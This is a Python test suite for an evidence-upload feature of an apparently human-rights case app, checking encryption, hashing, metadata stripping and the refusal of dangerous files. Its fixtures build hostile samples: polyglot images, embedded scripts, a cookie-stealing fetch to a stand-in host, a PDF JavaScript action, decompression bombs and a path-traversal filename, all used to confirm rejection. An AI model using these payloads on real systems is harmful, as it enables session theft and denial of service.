"""Evidence files: checked by content, hashed, stored encrypted, shared without metadata."""

from __future__ import annotations

import hashlib
import io
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from amparo.accounts.models import AuditEvent
from amparo.cases import evidence as files
from amparo.cases import services
from amparo.cases.models import Evidence
from amparo.core.crypto import DecryptionError, Keyring
from amparo.security.keys import keyring

pytestmark = pytest.mark.django_db

CANARY = "CANARY-7f3a-GPS"


def jpeg_with_gps() -> bytes:
    """A small JPEG whose EXIF holds a GPS position and a description carrying the canary."""
    image = Image.new("RGB", (32, 24), (200, 30, 30))
    exif = Image.Exif()
    exif[0x010E] = CANARY  # ImageDescription
    exif[0x0110] = "Canary Phone 9"  # Model
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (26.0, 13.0, 44.0)
    gps[3] = "E"
    gps[4] = (50.0, 35.0, 10.0)
    gps[27] = b"ASCII\x00\x00\x00" + CANARY.encode()  # GPSProcessingMethod
    out = io.BytesIO()
    image.save(out, format="JPEG", exif=exif)
    return out.getvalue()


def pdf_with_metadata() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_metadata({"/Author": CANARY, "/Title": "Witness statement"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def docx_bytes(extra: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        if extra:
            archive.writestr("word/media/blob.bin", extra)
    return out.getvalue()


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def stored_bytes(media_root: Path, name: str) -> bytes:
    return (Path(media_root) / name).read_bytes()


def test_the_original_is_hashed_and_stored_encrypted(make_entry, documenter, media_root):
    data = b"Statement of the witness, 3 March.\n" * 20
    item = services.add_evidence(documenter, make_entry(), upload("statement.txt", data))
    assert item.sha256 == hashlib.sha256(data).hexdigest()
    assert item.content_type == "text/plain" and item.size == len(data)
    raw = stored_bytes(media_root, item.stored_path)
    assert data not in raw and b"witness" not in raw
    assert "statement" not in item.stored_path
    assert files.load(item.stored_path, files.aad(item, "original")) == data
    assert not item.shared_path  # no shared copy for text


def test_a_stored_file_cannot_be_swapped_for_another_evidence_file(make_entry, documenter):
    entry = make_entry()
    one = services.add_evidence(documenter, entry, upload("a.txt", b"first file"))
    two = services.add_evidence(documenter, entry, upload("b.txt", b"second file"))
    with pytest.raises(DecryptionError):
        files.load(one.stored_path, files.aad(two, "original"))


def test_the_shared_copy_of_a_jpeg_has_no_exif_or_gps(make_entry, documenter, media_root):
    data = jpeg_with_gps()
    assert CANARY.encode() in data
    item = services.add_evidence(
        documenter, make_entry(), upload("IMG_0001.jpg", data, "image/jpeg")
    )
    assert {"EXIF", "GPS location"} <= set(item.metadata_removed)
    shared = files.load(item.shared_path, files.aad(item, "shared"))
    assert CANARY.encode() not in shared and b"Canary Phone" not in shared
    image = Image.open(io.BytesIO(shared))
    assert image.format == "JPEG" and image.size == (32, 24)
    assert len(image.getexif()) == 0 and "exif" not in image.info
    original = files.load(item.stored_path, files.aad(item, "original"))
    assert original == data  # the original is kept untouched


def test_a_png_loses_its_text_chunks(make_entry, documenter):
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", CANARY)
    out = io.BytesIO()
    Image.new("RGBA", (10, 10), (0, 0, 255, 128)).save(out, format="PNG", pnginfo=info)
    item = services.add_evidence(documenter, make_entry(), upload("x.png", out.getvalue()))
    shared = files.load(item.shared_path, files.aad(item, "shared"))
    assert "text chunks" in item.metadata_removed
    assert CANARY.encode() not in shared


def test_a_file_named_jpg_holding_a_pdf_is_treated_as_a_pdf(make_entry, documenter):
    item = services.add_evidence(
        documenter, make_entry(), upload("holiday.jpg", pdf_with_metadata(), "image/jpeg")
    )
    assert item.content_type == "application/pdf"
    assert "document information" in item.metadata_removed
    shared = files.load(item.shared_path, files.aad(item, "shared"))
    assert shared.startswith(b"%PDF-") and CANARY.encode() not in shared


def test_an_oversized_file_is_refused_and_nothing_is_stored(
    make_entry, documenter, settings, media_root
):
    settings.AMPARO_MAX_UPLOAD_BYTES = 1024
    with pytest.raises(ValidationError) as caught:
        services.add_evidence(documenter, make_entry(), upload("big.txt", b"a" * 2000))
    assert "larger than the limit" in caught.value.message_dict["file"][0]
    assert not Evidence.objects.exists()
    stored = list(Path(media_root).rglob("*")) if Path(media_root).exists() else []
    assert stored == []


def test_an_archive_bomb_is_refused(make_entry, documenter, settings):
    settings.AMPARO_MAX_UPLOAD_BYTES = 100_000
    bomb = docx_bytes(extra=b"\0" * 2_000_000)
    assert len(bomb) < 100_000
    with pytest.raises(ValidationError) as caught:
        services.add_evidence(documenter, make_entry(), upload("report.docx", bomb))
    assert "archive bomb" in caught.value.message_dict["file"][0]
    assert not Evidence.objects.exists()


def test_a_docx_is_accepted_without_a_shared_copy(make_entry, documenter):
    item = services.add_evidence(documenter, make_entry(), upload("report.docx", docx_bytes()))
    assert item.content_type == files.DOCX and not item.shared_path


@pytest.mark.parametrize(
    "data",
    [b"MZ\x90\x00\x03binary", b"PK\x03\x04not really a zip", b"\x00\x01\x02 binary"],
)
def test_other_content_is_refused_whatever_the_name(make_entry, documenter, data):
    with pytest.raises(ValidationError) as caught:
        services.add_evidence(documenter, make_entry(), upload("photo.jpg", data, "image/jpeg"))
    assert "file" in caught.value.message_dict
    assert not Evidence.objects.exists()


def test_upload_and_download_through_the_pages(documenter_client, viewer_client, make_entry):
    entry = make_entry()
    url = reverse("cases:record_new", kwargs={"uuid": entry.uuid, "kind": "evidence"})
    photo = jpeg_with_gps()
    response = documenter_client.post(
        url, {"kind": "photo", "description": "Damage", "file": upload("../../etc/x.jpg", photo)}
    )
    assert response.status_code == 302
    item = Evidence.objects.get()
    page = documenter_client.get(
        reverse("cases:detail", kwargs={"uuid": entry.uuid})
    ).content.decode()
    assert item.sha256 in page and "GPS location" in page
    download = reverse(
        "cases:evidence_download", kwargs={"uuid": entry.uuid, "pk": item.pk, "variant": "shared"}
    )
    got = documenter_client.get(download)
    assert got.status_code == 200
    assert got["Content-Type"] == "image/jpeg"
    assert got["X-Content-Type-Options"] == "nosniff"
    disposition = got["Content-Disposition"]
    assert (
        disposition.startswith("attachment;")
        and ".." not in disposition
        and "etc" not in disposition
    )
    assert disposition.isascii()
    assert CANARY.encode() not in got.content
    original = documenter_client.get(download.replace("/shared/", "/original/"))
    assert original["Content-Type"] == "application/octet-stream"
    assert original.content == photo
    events = AuditEvent.objects.filter(action="evidence.download")
    assert events.count() == 2
    assert viewer_client.get(download).status_code == 403
    assert events.count() == 2


def test_an_oversized_upload_on_the_page_shows_the_limit(documenter_client, make_entry, settings):
    settings.AMPARO_MAX_UPLOAD_BYTES = 1024 * 1024
    entry = make_entry()
    url = reverse("cases:record_new", kwargs={"uuid": entry.uuid, "kind": "evidence"})
    response = documenter_client.post(
        url, {"kind": "document", "file": upload("big.txt", b"a" * (1024 * 1024 + 1))}
    )
    assert response.status_code == 400
    assert "larger than the limit of 1 MB" in response.content.decode()
    assert not Evidence.objects.exists()


def test_key_rotation_reencrypts_every_stored_file(make_entry, documenter, media_root):
    entry = make_entry()
    photo = services.add_evidence(documenter, entry, upload("p.jpg", jpeg_with_gps()))
    text = services.add_evidence(documenter, entry, upload("t.txt", b"plain words"))
    old = keyring()
    new = Keyring(active=old.active, keys=dict(old.keys))
    new.add_key()
    assert Evidence.reencrypt_files(old, new) == 3  # photo original + shared, text original
    photo.refresh_from_db()
    text.refresh_from_db()
    sealed = stored_bytes(media_root, text.stored_path)
    assert new.key_id_of(sealed) == new.active != old.active
    assert files.load(text.stored_path, files.aad(text, "original"), ring=new) == b"plain words"
    shared = files.load(photo.shared_path, files.aad(photo, "shared"), ring=new)
    assert shared.startswith(b"\xff\xd8")


# --- Issue 7: metadata of every shared format, polyglots, bombs ------------------------------

XMP = (
    '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    f'xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="{CANARY}-XMP"/></rdf:RDF>'
    '</x:xmpmeta><?xpacket end="w"?>'
).encode()
MARKERS = (CANARY.encode(), b"Canary Phone", b"xmpmeta", b"GPS")


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = CANARY
    exif[0x0110] = "Canary Phone 9"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (26.0, 13.0, 44.0), "E", (50.0, 35.0, 10.0)
    return exif


def image_bytes(fmt: str, **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (20, 120, 60)).save(out, format=fmt, **options)
    return out.getvalue()


def jpeg_with_everything() -> bytes:
    return image_bytes("JPEG", exif=exif_with_gps(), xmp=XMP, comment=f"{CANARY}-comment".encode())


def png_with_everything() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Author", f"{CANARY}-text")
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    return image_bytes("PNG", pnginfo=info, exif=exif_with_gps())


def webp_with_everything() -> bytes:
    return image_bytes("WEBP", exif=exif_with_gps(), xmp=XMP)


def pdf_with_everything(javascript: bool = False) -> bytes:
    """A PDF with its document information, XMP on the catalogue and a page, and private data."""
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject

    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    writer.add_metadata({"/Author": CANARY, "/Producer": "Canary Phone PDF"})

    def xmp_stream():
        stream = StreamObject()
        stream.set_data(XMP)
        stream.update({NameObject("/Type"): NameObject("/Metadata")})
        return writer._add_object(stream)

    writer._root_object[NameObject("/Metadata")] = xmp_stream()
    page[NameObject("/Metadata")] = xmp_stream()
    page[NameObject("/PieceInfo")] = DictionaryObject(
        {NameObject("/Canary"): TextStringObject(f"{CANARY}-piece")}
    )
    if javascript:
        action = DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hello');"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def every_pdf_byte(data: bytes) -> bytes:
    """The file's bytes and every object, streams decoded: compression hides no marker."""
    from pypdf import PdfReader
    from pypdf.generic import IndirectObject, StreamObject

    reader = PdfReader(io.BytesIO(data))
    numbers = {(n, g) for g, table in reader.xref.items() for n in table}
    numbers |= {(n, 0) for n in reader.xref_objStm}
    parts = [data]
    for number, generation in sorted(numbers):
        obj = IndirectObject(number, generation, reader).get_object()
        parts.append(repr(obj).encode())
        if isinstance(obj, StreamObject):
            parts.append(obj.get_data())
    return b"\n".join(parts)


def shared_copy(item) -> bytes:
    return files.load(item.shared_path, files.aad(item, "shared"))


@pytest.mark.parametrize(
    ("make", "fmt", "removed"),
    [
        (jpeg_with_everything, "JPEG", {"EXIF", "GPS location", "XMP", "comment"}),
        (png_with_everything, "PNG", {"EXIF", "GPS location", "XMP", "text chunks"}),
        (webp_with_everything, "WEBP", {"EXIF", "GPS location", "XMP"}),
    ],
)
def test_the_shared_copy_of_an_image_has_no_exif_gps_or_xmp(
    make, fmt, removed, make_entry, documenter
):
    data = make()
    assert all(marker in data for marker in MARKERS[:3]), "the markers were not planted"
    item = services.add_evidence(documenter, make_entry(), upload(f"x.{fmt.lower()}", data))
    assert removed <= set(item.metadata_removed)
    shared = shared_copy(item)
    for marker in MARKERS:
        assert marker not in shared, marker
    image = Image.open(io.BytesIO(shared))
    assert image.format == fmt and image.size == (40, 30)
    assert len(image.getexif()) == 0
    assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment", "Author"} & set(image.info)


def test_the_shared_copy_of_a_pdf_has_no_information_xmp_or_private_data(make_entry, documenter):
    from pypdf import PdfReader

    data = pdf_with_everything()
    assert CANARY.encode() in every_pdf_byte(data) and b"xmpmeta" in every_pdf_byte(data)
    item = services.add_evidence(documenter, make_entry(), upload("statement.pdf", data))
    assert {"document information", "XMP", "page XMP"} <= set(item.metadata_removed)
    shared = shared_copy(item)
    everything = every_pdf_byte(shared)
    for marker in (CANARY.encode(), b"Canary Phone", b"xmpmeta", b"PieceInfo"):
        assert marker not in everything, marker
    reader = PdfReader(io.BytesIO(shared))
    assert not reader.metadata and reader.xmp_metadata is None
    assert len(reader.pages) == 1 and "/Metadata" not in reader.pages[0]


def jpeg_then_zip() -> bytes:
    """Valid as a JPEG (readers stop at the end marker) and as a zip (read from the end)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.html", "<p>hello</p>")
    return image_bytes("JPEG") + archive.getvalue()


def jpeg_with_html() -> bytes:
    return image_bytes("JPEG", comment=b"<html><script>alert(document.domain)</script></html>")


def png_with_script_after_the_end() -> bytes:
    return image_bytes("PNG") + b"<script>fetch('//x.example/'+document.cookie)</script>"


def gif_javascript() -> bytes:
    """A GIF header whose every byte is printable: to a browser, also a JavaScript file."""
    return b"GIF89a/*\x2f\x2a\x2a\x2f=1;alert(document.domain);/*" + b"*/" + b"\x3b"


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="4"/></svg>'
HTML = b"<!doctype html><title>Statement</title><p>Witness statement</p>"


@pytest.mark.parametrize(
    ("name", "make", "message"),
    [
        ("photo.jpg", jpeg_then_zip, "also a zip archive"),
        ("photo.jpg", jpeg_with_html, "web page or script code"),
        ("photo.png", png_with_script_after_the_end, "web page or script code"),
        ("photo.gif", gif_javascript, "This type of file is not accepted"),
        ("statement.pdf", lambda: pdf_with_everything() + jpeg_then_zip()[-200:], None),
        ("statement.pdf", lambda: pdf_with_everything(javascript=True), "scripts, embedded"),
        ("drawing.svg", lambda: SVG, "web page or script code"),
        ("drawing.txt", lambda: b"<?xml version='1.0'?>\n" + SVG, "web page or script code"),
        ("statement.html", lambda: HTML, "web page or script code"),
    ],
)
def test_polyglots_and_active_files_are_refused_with_a_clear_message_and_nothing_stored(
    name, make, message, documenter_client, make_entry, media_root
):
    data = make()
    entry = make_entry()
    url = reverse("cases:record_new", kwargs={"uuid": entry.uuid, "kind": "evidence"})
    response = documenter_client.post(
        url, {"kind": "photo", "description": "x", "file": upload(name, data)}
    )
    assert response.status_code == 400, name
    page = response.content.decode()
    if message:
        assert message in page
    assert 'class="error-summary"' in page and "Traceback" not in page
    assert_nothing_stored(media_root)
    refused = AuditEvent.objects.get(action="evidence.refused")  # ASVS 16.3.3, names only
    assert refused.object_id == str(entry.pk) and refused.fields == ["file"]


def assert_nothing_stored(media_root) -> None:
    assert not Evidence.objects.exists()
    assert not AuditEvent.objects.filter(action="evidence.create").exists()
    stored = (
        [p for p in Path(media_root).rglob("*") if p.is_file()] if Path(media_root).exists() else []
    )
    assert stored == []


def test_a_pdf_carrying_a_zip_at_its_end_is_refused_as_a_polyglot(make_entry, documenter):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("a.txt", "payload")
    with pytest.raises(ValidationError) as caught:
        services.add_evidence(
            documenter, make_entry(), upload("a.pdf", pdf_with_everything() + archive.getvalue())
        )
    assert "also a zip archive" in caught.value.message_dict["file"][0]


def png_header(width: int, height: int) -> bytes:
    """A PNG that claims huge dimensions in a few dozen bytes (a decompression bomb's header)."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\0" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


@pytest.mark.parametrize(("width", "height"), [(12_000, 10_000), (60_000, 60_000)])
def test_a_decompression_bomb_image_is_refused_as_too_large(
    width, height, documenter_client, make_entry, media_root
):
    entry = make_entry()
    url = reverse("cases:record_new", kwargs={"uuid": entry.uuid, "kind": "evidence"})
    data = png_header(width, height)
    assert len(data) < 200
    response = documenter_client.post(url, {"kind": "photo", "file": upload("bomb.png", data)})
    assert response.status_code == 400
    assert "The image is too large (over 100 million pixels)." in response.content.decode()
    assert_nothing_stored(media_root)


def test_a_zip_bomb_of_many_members_is_refused(make_entry, documenter, media_root):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for n in range(files.MAX_ZIP_MEMBERS + 1):
            archive.writestr(f"word/media/{n}.bin", b"")
    with pytest.raises(ValidationError) as caught:
        services.add_evidence(documenter, make_entry(), upload("report.docx", out.getvalue()))
    assert "archive bomb" in caught.value.message_dict["file"][0]
    assert_nothing_stored(media_root)


def test_an_oversized_upload_through_the_page_stores_nothing(
    documenter_client, make_entry, settings, media_root
):
    settings.AMPARO_MAX_UPLOAD_BYTES = 64 * 1024
    entry = make_entry()
    url = reverse("cases:record_new", kwargs={"uuid": entry.uuid, "kind": "evidence"})
    big = image_bytes("PNG") + b"\0" * (64 * 1024)
    response = documenter_client.post(url, {"kind": "photo", "file": upload("big.png", big)})
    assert response.status_code == 400
    assert "larger than the limit" in response.content.decode()
    assert_nothing_stored(media_root)


@pytest.mark.parametrize(
    "text",
    [
        b"Witness statement: they said <b>stop</b> and left at 5 < 6 pm.\n",
        b"BMW car seen outside the office; plate unknown.\n",
        "Declaración: «nos siguieron» — 3 de marzo.\n".encode(),
    ],
)
def test_ordinary_text_is_still_accepted(text, make_entry, documenter):
    assert services.add_evidence(documenter, make_entry(), upload("s.txt", text)).content_type == (
        files.TEXT
    )
